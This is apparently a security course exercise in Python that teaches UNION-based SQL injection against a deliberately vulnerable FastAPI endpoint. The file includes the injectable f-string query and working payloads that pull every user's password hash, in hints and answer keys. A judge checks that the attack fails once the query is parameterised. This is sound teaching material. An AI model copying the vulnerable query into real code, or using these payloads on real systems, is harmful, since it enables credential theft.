"""SQL injection: a name that brings a second SELECT along."""

from typing import Any

from fastapi import APIRouter
from sqlalchemy import select, text

from course.exercises.exercise import Exercise, Mistake
from course.judges.attacks import Target, tried_on, tried_on_the_finished
from course.judges.trials import Trying
from microblog.dependencies import ReadEngine
from microblog.models import User

router = APIRouter()


@router.get("/users/{username}/posts/")
def list_user_posts(username: str, engine: ReadEngine) -> list[dict[str, Any]]:
    found = text(
        "SELECT posts.id, content, timestamp, owner_id, username FROM posts "
        f"JOIN users ON users.id = owner_id WHERE username = '{username}'"
    )
    with engine.connect() as connection:
        return [dict(row) for row in connection.execute(found).mappings()]


def all_hashes(target: Target) -> Any:
    rows = target.rows(select(User.username, User.hashed_password).order_by(User.username))
    return sorted(map(list, rows))


def stealing(second: str) -> str:
    """The attack with its gap filled in."""
    return f"""
def attack(api):
    second = "{second}"
    rows = api.get(f"/users/' UNION {{second}} --/posts/").json()
    return sorted([row["username"], row["content"]] for row in rows)
"""


EXERCISE = Exercise(
    title="A second question",
    minutes=4,
    objective="break into a query that is put together from text",
    task="""Fill in the gap with a SELECT, as text, so that every user's hash comes out under
`content`, and the name under `username`. The table `users` has the columns `id`, `username`,
`email`, `hashed_password` and `created_at`. In the JSON the columns keep the names of the first
SELECT: `id`, `content`, `timestamp`, `owner_id`, `username`.""",
    starter="""def attack(api):
    second = ____
    rows = api.get(f"/users/' UNION {second} --/posts/").json()
    return sorted([row["username"], row["content"]] for row in rows)


answer = attack""",
    hints=(
        "How many columns does the first SELECT have? Yours needs as many.",
        "`UNION` goes by position. `content` is the second column and `username` the fifth: what "
        "do you want to see in each of them?",
        '`second = "SELECT id, hashed_password, email, id, username FROM users"`',
    ),
    imports="",
    answers=(
        stealing("SELECT id, hashed_password, email, id, username FROM users"),
        stealing("select 1, hashed_password, 3, 4, username from users"),
    ),
    mistakes=(
        Mistake(
            "two columns",
            stealing("SELECT username, hashed_password FROM users"),
            "The two SELECTs of a UNION need equally many columns. The first one has five.",
        ),
        Mistake(
            "every column",
            stealing("SELECT * FROM users"),
            "Five columns, as it should be, but in the order of the table: under `content` stands "
            "the username, under `username` the date. Choose the columns one by one.",
        ),
        Mistake(
            "addresses",
            stealing("SELECT id, email, email, id, username FROM users"),
            "You're in, and you bring everybody's e-mail address. The task asks for the hashes.",
        ),
        Mistake(
            "one user",
            stealing(
                "SELECT id, hashed_password, email, id, username FROM users "
                "WHERE username = 'marta'"
            ),
            "You're in, and you bring marta's hash alone. Leave out the condition.",
        ),
    ),
    judge=Trying(
        [
            tried_on("The draft.", router, all_hashes),
            tried_on("The draft with other passwords.", router, all_hashes, password="sunlight"),
            tried_on_the_finished(all_hashes),
        ]
    ),
    praise="Every hash, through a name. In the finished query the name is a parameter, and holds.",
)
